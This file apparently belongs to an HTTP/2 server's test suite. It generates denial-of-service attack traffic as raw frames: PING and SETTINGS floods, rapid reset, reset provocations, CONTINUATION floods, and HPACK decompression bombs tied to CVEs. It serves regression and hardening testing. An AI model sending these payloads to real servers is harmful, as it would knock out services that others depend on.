"""Attacks on resources and on HPACK as bytes: what an attacker writes, batch by batch.

They run against the engine in memory (test_exhaustion.py, test_hpack.py) and against a live server (test_live.py).
Stream ids begin at 1: an attack wants a connection of its own, after the preface and the ACK.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator

from tests.support import wire

GET = wire.literals(wire.request_fields())
POST = wire.literals(wire.request_fields(method=b"POST"))


def batched(frames: Iterator[bytes], size: int = 200) -> Iterator[bytes]:
    """The frames in writes of `size`."""
    batch = []
    for frame in frames:
        batch.append(frame)
        if len(batch) == size:
            yield b"".join(batch)
            batch = []
    if batch:
        yield b"".join(batch)


def open_streams(count: int, *, end_stream: bool = True) -> bytes:
    """Requests 1, 3, 5 ... in one write."""
    block = GET if end_stream else POST
    return b"".join(wire.headers(1 + 2 * n, block, end_stream=end_stream) for n in range(count))


def data_dribble(updates: int = 60_000) -> Iterator[bytes]:
    """100 large answers, the windows opened byte by byte."""
    yield wire.settings({wire.INITIAL_WINDOW_SIZE: 0})
    yield open_streams(100)
    yield from batched(wire.window_update(1 + 2 * (n % 100), 1) for n in range(updates))


def ping_flood(count: int = 100_000) -> Iterator[bytes]:
    """PING after PING."""
    yield from batched(wire.ping(n.to_bytes(8, "big")) for n in range(count))


def priority_flood(count: int = 60_000) -> Iterator[bytes]:
    """PRIORITY frames that reshuffle a tree, if there were one."""
    yield from batched(wire.priority(1 + 2 * (n % 1000), (2 * n + 3) % 2000, n % 256) for n in range(count))


def invalid_requests(count: int = 3_000) -> Iterator[bytes]:
    """A request on each stream that has to be answered with RST_STREAM."""
    bad = wire.literals(wire.request_fields(extra=[(b"connection", b"close")]))
    yield from batched(wire.headers(1 + 2 * n, bad, end_stream=True) for n in range(count))


def settings_flood(count: int = 60_000) -> Iterator[bytes]:
    """SETTINGS that each want an ACK."""
    yield from batched(wire.settings({wire.MAX_HEADER_LIST_SIZE: n}) for n in range(count))


def giant_settings(entries: int = 33) -> Iterator[bytes]:
    """One SETTINGS frame of many entries."""
    yield wire.settings([(wire.MAX_HEADER_LIST_SIZE, n) for n in range(entries)])


def zero_length_headers(count: int = 1_000) -> Iterator[bytes]:
    """Requests full of fields with empty names and values."""
    bad = GET + wire.literal(b"", b"") * 50
    yield from batched(wire.headers(1 + 2 * n, bad, end_stream=True) for n in range(count))


def empty_data(count: int = 60_000) -> Iterator[bytes]:
    """DATA of length 0 without END_STREAM."""
    yield wire.headers(1, POST)
    yield from batched(wire.data(1) for n in range(count))


def empty_padded_data(count: int = 60_000) -> Iterator[bytes]:
    """DATA that is nothing but padding."""
    yield wire.headers(1, POST)
    yield from batched(wire.data(1, pad=0) for n in range(count))


def empty_continuation(count: int = 60_000) -> Iterator[bytes]:
    """CONTINUATION of length 0 without END_HEADERS."""
    yield wire.headers(1, GET, end_headers=False)
    yield from batched(wire.continuation(1) for n in range(count))


def empty_headers(count: int = 60_000) -> Iterator[bytes]:
    """HEADERS with an empty block, which is a malformed request each."""
    yield from batched(wire.headers(1 + 2 * n, b"", end_stream=True) for n in range(count))


def empty_push_promise(count: int = 60_000) -> Iterator[bytes]:
    """PUSH_PROMISE from a client."""
    yield wire.headers(1, POST)
    yield from batched(wire.push_promise(1, 2, b"") for n in range(count))


def unknown_frames(count: int = 60_000) -> Iterator[bytes]:
    """Frames of an unknown type."""
    yield from batched(wire.frame(0xFA, 0, 0) for n in range(count))


def window_update_crumbs(count: int = 60_000) -> Iterator[bytes]:
    """WINDOW_UPDATE of 1 on the connection."""
    yield from batched(wire.window_update(0, 1) for n in range(count))


def settings_acks(count: int = 60_000) -> Iterator[bytes]:
    """Acknowledgements of SETTINGS that nobody sent."""
    yield from batched(wire.settings_ack() for n in range(count))


def ping_acks(count: int = 60_000) -> Iterator[bytes]:
    """Acknowledgements of PINGs that nobody sent."""
    yield from batched(wire.ping(ack=True) for n in range(count))


def goaways(count: int = 60_000) -> Iterator[bytes]:
    """GOAWAY after GOAWAY, with a stream open so that the first one is not the end."""
    yield wire.headers(1, POST)
    yield from batched(wire.goaway() for n in range(count))


def priority_updates(count: int = 60_000) -> Iterator[bytes]:
    """PRIORITY_UPDATE for streams that are never opened."""
    yield from batched(wire.priority_update(1 + 2 * (n % 1000), b"u=1") for n in range(count))


def on_a_reset_stream(frame: bytes, count: int = 60_000) -> Iterator[bytes]:
    """The same frame, on and on, for a stream that the server has had to reset."""
    yield wire.headers(1, POST) + wire.window_update(1, 0)
    yield from batched(frame for n in range(count))


def one_byte_data(count: int = 60_000) -> Iterator[bytes]:
    """DATA of one byte on a stream that nobody reads."""
    yield wire.headers(1, POST)
    yield from batched(wire.data(1, b"x") for n in range(count))


def rapid_reset(count: int = 20_000) -> Iterator[bytes]:
    """HEADERS and RST_STREAM, pair after pair."""
    yield from batched(
        wire.headers(1 + 2 * n, GET, end_stream=True) + wire.rst_stream(1 + 2 * n, wire.CANCEL) for n in range(count)
    )


def held_resets(rounds: int = 40, held_s: float = 0.05) -> Iterator[bytes]:
    """100 requests, taken back when they have held their places long enough not to count as early."""
    for n in range(rounds):
        ids = range(1 + 200 * n, 1 + 200 * (n + 1), 2)
        yield b"".join(wire.headers(each, GET, end_stream=True) for each in ids)
        time.sleep(held_s)
        yield b"".join(wire.rst_stream(each, wire.CANCEL) for each in ids)


def _provoke(count: int, request: bytes, end_stream: bool, fault: bytes) -> Iterator[bytes]:
    """A sound request, then a frame that makes the server reset it; the fault's stream id is filled in."""
    for n in range(count):
        stream_id = (1 + 2 * n).to_bytes(4, "big")
        yield wire.headers(1 + 2 * n, request, end_stream=end_stream) + fault[:5] + stream_id + fault[9:]


MADE_YOU_RESET: dict[str, Callable[..., Iterator[bytes]]] = {
    "window-update-0": lambda n=3_000: batched(_provoke(n, POST, False, wire.window_update(1, 0))),
    "window-overflow": lambda n=3_000: batched(_provoke(n, POST, False, wire.window_update(1, 2**31 - 1))),
    "data-after-end": lambda n=3_000: batched(_provoke(n, GET, True, wire.data(1, b"x"))),
    "headers-after-end": lambda n=3_000: batched(
        _provoke(n, GET, True, wire.headers(1, [(b"t", b"v")], end_stream=True))
    ),
    "priority-size": lambda n=3_000: batched(_provoke(n, POST, False, wire.priority(1, payload=b"xxxx"))),
    "content-length": lambda n=3_000: batched(
        _provoke(n, POST + wire.literal(b"content-length", b"1"), False, wire.data(1, b"too long"))
    ),
}


def impossible_reply(count: int = 1_000) -> Iterator[bytes]:
    """SETTINGS_MAX_HEADER_LIST_SIZE of 1, so that no answer would fit, and GETs."""
    yield wire.settings({wire.MAX_HEADER_LIST_SIZE: 1})
    yield from batched((wire.headers(1 + 2 * n, GET, end_stream=True) for n in range(count)), 50)


def unfinished_streams(count: int = 1_000) -> Iterator[bytes]:
    """HEADERS without END_STREAM, on and on."""
    yield from batched(wire.headers(1 + 2 * n, POST) for n in range(count))


def continuation_flood(frames: int = 400, size: int = 16_000) -> Iterator[bytes]:
    """HEADERS without END_HEADERS and large CONTINUATION frames without end."""
    yield wire.headers(1, GET, end_headers=False)
    yield from batched((wire.continuation(1, wire.literal(b"a", b"x" * size)) for _ in range(frames)), 5)


def window_flips(count: int = 30_000) -> Iterator[bytes]:
    """INITIAL_WINDOW_SIZE up and down over 100 streams with answers under way."""
    yield wire.settings({wire.INITIAL_WINDOW_SIZE: 0})
    yield open_streams(100)
    yield from batched(wire.settings({wire.INITIAL_WINDOW_SIZE: n % 2}) for n in range(count))


def fat_bomb(references: int = 11_000, streams: int = 20) -> Iterator[bytes]:
    """CVE-2016-6581: one entry of 4 kB, referenced thousands of times a request."""
    yield wire.headers(1, GET + wire.literal(b"cookie", b"x" * 4_000, index=True), end_stream=True)
    block = GET + wire.indexed(62) * references
    for n in range(1, streams + 1):
        yield split_block(1 + 2 * n, block)


def thin_bomb(name: bytes = b"a", references: int = 16_000, streams: int = 50) -> Iterator[bytes]:
    """CVE-2026-49975 and kin: a near-empty field, referenced 16,000 times a request, windows shut."""
    yield wire.settings({wire.INITIAL_WINDOW_SIZE: 0})
    yield wire.headers(1, GET + wire.literal(name, b"", index=True), end_stream=True)
    block = GET + wire.indexed(62) * references
    for n in range(1, streams + 1):
        yield split_block(1 + 2 * n, block)


def medium_bomb(streams: int = 100, *, varied: bool = False) -> Iterator[bytes]:
    """The bypass of the first fix: 15 fields of 4 kB to a request, just within the limits of one, on many streams.

    With `varied` no two requests are alike, so that what is kept of them cannot be shared.
    """
    yield wire.headers(1, GET + wire.literal(b"cookie", b"x" * 4_000, index=True), end_stream=True)
    for n in range(1, streams + 1):
        block = GET + wire.indexed(62) * 15 + (wire.literal(b"n", b"%d" % n) if varied else b"")
        yield wire.headers(1 + 2 * n, block, end_stream=True)


def split_block(stream_id: int, block: bytes) -> bytes:
    """A block in HEADERS and as few CONTINUATION frames as it takes."""
    parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    frames = [wire.headers(stream_id, parts[0], end_stream=True, end_headers=len(parts) == 1)]
    for n, part in enumerate(parts[1:], 2):
        frames.append(wire.continuation(stream_id, part, end_headers=n == len(parts)))
    return b"".join(frames)


def endless_integer(size: int = 1_000_000) -> Iterator[bytes]:
    """CVE-2026-59980: 0xff 0x80 0x80 ... as far as frames go."""
    yield wire.headers(1, b"\xff" + b"\x80" * 16_000, end_headers=False)
    yield from (wire.continuation(1, b"\x80" * 16_384) for _ in range(size // 16_384))
    yield wire.continuation(1, b"\x80", end_headers=True)


def table_inflation() -> Iterator[bytes]:
    """SETTINGS_HEADER_TABLE_SIZE of 2^32-1, so that the server's encoder would keep everything it ever sent."""
    yield wire.settings({wire.HEADER_TABLE_SIZE: 2**32 - 1})
    yield from (wire.headers(1 + 2 * n, GET, end_stream=True) for n in range(1_000))


def trailer_map(names: int = 100_000) -> Iterator[bytes]:
    """Go CVE-2026-78659: `trailer` that announces 100,000 names."""
    value = b",".join(b"t%d" % n for n in range(names))[:60_000]
    block = POST + wire.literal(b"trailer", value)
    yield split_block(1, block)
